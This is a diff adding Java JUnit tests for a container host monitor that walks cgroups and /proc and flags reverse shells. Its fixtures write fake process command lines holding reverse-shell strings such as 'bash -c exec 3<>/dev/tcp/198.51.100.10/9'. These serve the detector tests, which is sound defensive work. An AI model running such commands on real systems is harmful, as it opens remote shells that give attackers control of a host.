@@ -6,6 +6,7 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -208,6 +209,147 @@ class HostViewTest {
         HostView.Tree tree = new HostView(root.resolve("proc"), root.resolve("cgroup")).tree(cgroup);
         assertThat(tree.beyond()).startsWith("g");
         assertThat(new HostView(root.resolve("proc"), root.resolve("cgroup")).pids(cgroup)).containsExactly(1);
+    }
+
+    /**
+     * Root inside moves a process from a subgroup the walk has not read yet into one it has read (it sees the host open
+     * each cgroup.procs): no walk lists it. pids.current still counts its tasks, so the walk falls short, and the
+     * process is found by scanning /proc for the ones whose cgroup is under the container's; a process of a container
+     * whose name only starts the same, and the host's, are not taken.
+     */
+    @Test
+    void aProcessMovedBehindTheWalkIsFoundByScanningProc() throws IOException {
+        Path cgroup = root.resolve("cgroup/pids/lxc.payload.coi-x-1");
+        write(cgroup.resolve("cgroup.procs"), "");
+        write(cgroup.resolve("init.scope/cgroup.procs"), "101\n");
+        write(cgroup.resolve("user.slice/cgroup.procs"), "");
+        write(cgroup.resolve("pids.current"), "4\n");
+        Path proc = root.resolve("proc");
+        process(proc, 101, 1000000, "systemd", 0, "/sbin/init\0", "/usr/lib/systemd/systemd", "/");
+        write(proc.resolve("101/cgroup"), "12:pids:/lxc.payload.coi-x-1/init.scope\n0::/lxc.payload.coi-x-1/init.scope\n");
+        process(proc, 207, 1000000, "bash", 101, "bash\0-c\0exec 3<>/dev/tcp/198.51.100.10/9\0", "/usr/bin/bash", "/");
+        stat(proc, 207, "bash", "S", 3);
+        write(proc.resolve("207/cgroup"), "13:cpu,pids:/lxc.payload.coi-x-1/user.slice\n0::/lxc.payload.coi-x-1\n");
+        process(proc, 208, 1000000, "bash", 1, "bash\0", "/usr/bin/bash", "/");
+        write(proc.resolve("208/cgroup"), "12:pids:/lxc.payload.coi-x-10/init.scope\n0::/lxc.payload.coi-x-1\n");
+        process(proc, 209, 0, "bash", 1, "bash\0", "/usr/bin/bash", "/");
+        write(proc.resolve("209/cgroup"), "12:pids:/user.slice\n0::/lxc.payload.coi-x-1\n");
+        HostView view = new HostView(proc, root.resolve("cgroup"));
+
+        HostView.Tree tree = view.tree(cgroup);
+
+        assertThat(tree.pids()).containsExactly(101, 207);
+        assertThat(tree.beyond()).isNull();
+        assertThat(Detectors.reverseShells(view.detailed("coi-x-1", tree.pids()))).extracting(Threat::title)
+                .containsExactly("reverse shell: bash redirecting to /dev/tcp or /dev/udp");
+    }
+
+    /** Tasks, not processes: a walk that finds every process of a threaded workload falls not short, and /proc is not scanned. */
+    @Test
+    void aWalkWhoseProcessesHaveAllTheTasksCountedIsNotScannedAgain() throws IOException {
+        Path cgroup = root.resolve("cgroup/pids/lxc.payload.coi-x-1");
+        write(cgroup.resolve("cgroup.procs"), "101\n");
+        write(cgroup.resolve("pids.current"), "5\n");
+        Path proc = root.resolve("proc");
+        process(proc, 101, 1000000, "node", 0, "node\0", "/usr/bin/node", "/");
+        stat(proc, 101, "node", "S", 5);
+        process(proc, 102, 1000000, "bash", 101, "bash\0", "/usr/bin/bash", "/");
+        write(proc.resolve("102/cgroup"), "12:pids:/lxc.payload.coi-x-1\n");
+        assertThat(new HostView(proc, root.resolve("cgroup")).tree(cgroup)).isEqualTo(new HostView.Tree(List.of(101), null, 0));
+    }
+
+    /**
+     * Tasks that neither two walks nor the scan find are counted as unaccounted for (the guard raises them when that
+     * lasts); a walk that finds nothing in a container whose pids.current counts tasks is no container stopping. One
+     * with none is; a pids.current that cannot be read is reported at once.
+     */
+    @Test
+    void tasksNoWalkNorScanFindsAreReportedAndAnEmptyWalkIsNoContainerStopping() throws IOException {
+        Path cgroup = root.resolve("cgroup/pids/lxc.payload.coi-x-1");
+        write(cgroup.resolve("cgroup.procs"), "101\n");
+        write(cgroup.resolve("pids.current"), "7\n");
+        Path proc = root.resolve("proc");
+        process(proc, 101, 1000000, "systemd", 0, "/sbin/init\0", "/usr/lib/systemd/systemd", "/");
+        write(proc.resolve("101/cgroup"), "12:pids:/lxc.payload.coi-x-1\n");
+        HostView view = new HostView(proc, root.resolve("cgroup"));
+
+        HostView.Tree tree = view.tree(cgroup);
+        assertThat(tree).isEqualTo(new HostView.Tree(List.of(101), null, 6));
+
+        write(cgroup.resolve("cgroup.procs"), "");
+        write(proc.resolve("101/cgroup"), "12:pids:/\n");
+        HostView.Tree empty = view.tree("coi-x-1", cgroup);
+        assertThat(empty).isEqualTo(new HostView.Tree(List.of(), null, 7));
+        assertThat(view.detailed("coi-x-1", empty.pids()).processes()).isEmpty();
+
+        write(cgroup.resolve("pids.current"), "0\n");
+        assertThatThrownBy(() -> view.tree("coi-x-1", cgroup)).isInstanceOf(ObservationException.class).hasMessageContaining("has no process");
+        Files.delete(cgroup.resolve("pids.current"));
+        Files.createDirectory(cgroup.resolve("pids.current"));
+        assertThat(view.tree(cgroup).beyond()).startsWith("pids.current cannot be read");
+    }
+
+    /**
+     * A process whose main thread ended (pthread_exit) while another runs: the kernel shows its leader as a zombie
+     * with an empty command line, no exe, no cwd and no descriptors, and on a v1 hierarchy in the root cgroup ("/";
+     * its v2 line still says where it is). It is read through its first live thread; its walk falls short of
+     * nothing when listed (it counts as its two tasks), and it is found by the scan when moved out of the walk's way.
+     */
+    @Test
+    void aLeaderThatEndedBeforeItsThreadsIsReadThroughALiveThread() throws IOException {
+        Path cgroup = root.resolve("cgroup/pids/lxc.payload.coi-x-1");
+        write(cgroup.resolve("cgroup.procs"), "101\n");
+        write(cgroup.resolve("pids.current"), "4\n");
+        Path proc = root.resolve("proc");
+        process(proc, 101, 1000000, "systemd", 0, "/sbin/init\0", "/usr/lib/systemd/systemd", "/");
+        write(proc.resolve("101/cgroup"), "12:pids:/lxc.payload.coi-x-1\n0::/lxc.payload.coi-x-1/init.scope\n");
+        Path leader = proc.resolve("205");
+        write(leader.resolve("stat"), "205 (shell) Z 101 1 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 3 0\n");
+        write(leader.resolve("status"), "Name:\tshell\nState:\tZ (zombie)\nUid:\t1001000\t1001000\t1001000\t1001000\n");
+        write(leader.resolve("cmdline"), "");
+        write(leader.resolve("io"), "rchar: 77\nwchar: 5\n");
+        Files.createDirectories(leader.resolve("fd"));
+        write(leader.resolve("cgroup"), "12:pids:/\n0::/lxc.payload.coi-x-1/user.slice\n");
+        write(leader.resolve("task/205/stat"), "205 (shell) Z 101\n");
+        write(leader.resolve("task/206/stat"), "206 (shell) X 101\n");
+        Path thread = leader.resolve("task/207");
+        write(thread.resolve("stat"), "207 (shell) S 101\n");
+        write(thread.resolve("cmdline"), "./shell\0/dev/tcp/198.51.100.10/9\0");
+        Files.createDirectories(thread.resolve("fd"));
+        Files.createSymbolicLink(thread.resolve("fd/0"), Path.of("socket:[9100]"));
+        Files.createSymbolicLink(thread.resolve("exe"), Path.of("/usr/bin/bash"));
+        Files.createSymbolicLink(thread.resolve("cwd"), Path.of("/root"));
+        write(proc.resolve("101/net/tcp"), TCP);
+        HostView view = new HostView(proc, root.resolve("cgroup"));
+
+        HostView.Tree tree = view.tree(cgroup);
+        assertThat(tree.pids()).as("moved out of the walk's way: found by its v2 line").containsExactly(101, 205);
+        assertThat(tree.beyond()).isNull();
+        Snapshot s = view.detailed("coi-x-1", tree.pids());
+        Snapshot.Proc shell = s.processes().get(1);
+        assertThat(shell.comm()).isEqualTo("shell");
+        assertThat(shell.ppid()).isEqualTo(101);
+        assertThat(shell.uid()).isEqualTo(1000);
+        assertThat(shell.cmdline()).containsExactly("./shell", "/dev/tcp/198.51.100.10/9");
+        assertThat(shell.exe()).isEqualTo("/usr/bin/bash");
+        assertThat(shell.cwd()).isEqualTo("/root");
+        assertThat(shell.fds()).containsEntry(0, "socket:[9100]");
+        assertThat(shell.rchar()).as("the whole process's io, the leader's").isEqualTo(77);
+        assertThat(Detectors.reverseShells(s)).extracting(Threat::title).containsExactly(
+                "reverse shell: bash with its stdin on a connection to 198.51.100.10:9001", "reverse shell: bash redirecting to /dev/tcp or /dev/udp");
+
+        // no live thread: read as it is (nothing to tell by)
+        Files.delete(thread.resolve("stat"));
+        assertThat(view.process(205)).hasValueSatisfying(p -> {
+            assertThat(p.cmdline()).isEmpty();
+            assertThat(p.exe()).isNull();
+            assertThat(p.fds()).isEmpty();
+        });
+    }
+
+    /** A process's stat with its state and num_threads (the 20th field). */
+    private static void stat(Path proc, int pid, String comm, String state, int threads) throws IOException {
+        write(proc.resolve(pid + "/stat"), pid + " (" + comm + ") " + state + " 1 1 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 " + threads + " 0 0\n");
     }
 
     /** {@code levels} folders of 250 characters ({@code letter}) below {@code under}, each with a cgroup.procs of one pid from {@code first}; the last. */
